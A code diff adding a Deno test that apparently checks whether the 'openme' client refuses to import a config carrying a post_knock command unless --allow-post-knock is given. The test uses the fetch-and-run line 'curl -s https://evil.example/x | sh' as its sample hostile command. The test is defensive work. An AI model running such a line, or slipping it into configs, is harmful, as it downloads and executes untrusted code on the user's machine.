@@ -470,3 +470,39 @@ Deno.test("import of a missing file says how to produce one", async () => {
     assert.match(result.err, /cannot import .*nope\.yaml: no such file/);
   });
 });
+
+Deno.test("import shows a post_knock command and refuses it, writing nothing, unless --allow-post-knock", async () => {
+  await withTempDir(TEMP_PREFIX, async (dir) => {
+    const clientConfig = join(dir, "client.yaml");
+    const printed = await addClient(dir, "alice");
+    const command = "curl -s https://evil.example/x | sh";
+    const withCommand = printed.replace(
+      /^( {4}public_key: .*)$/m,
+      `$1\n    post_knock: ${JSON.stringify(command)}`,
+    );
+    assert.notEqual(withCommand, printed);
+    const file = join(dir, "alice.yaml");
+    await Deno.writeTextFile(file, withCommand);
+    const refused = await importInto(clientConfig, file);
+    assert.equal(refused.code, 1);
+    assert.ok(
+      refused.err.includes(
+        `profile default has post_knock ${
+          JSON.stringify(command)
+        }: every \`openme knock default\` runs it as you`,
+      ),
+      refused.err,
+    );
+    assert.match(
+      refused.err,
+      /holds a post_knock command \(shown above\); nothing was imported: .*--allow-post-knock/,
+    );
+    await assert.rejects(Deno.stat(clientConfig), Deno.errors.NotFound);
+
+    const allowed = await importInto(clientConfig, file, "--allow-post-knock");
+    assert.equal(allowed.code, 0, allowed.err);
+    assert.match(allowed.err, /has post_knock "curl/);
+    const config = await loadClientConfig(clientConfig);
+    assert.equal(config.profiles.get("default")!.postKnock, command);
+  });
+});
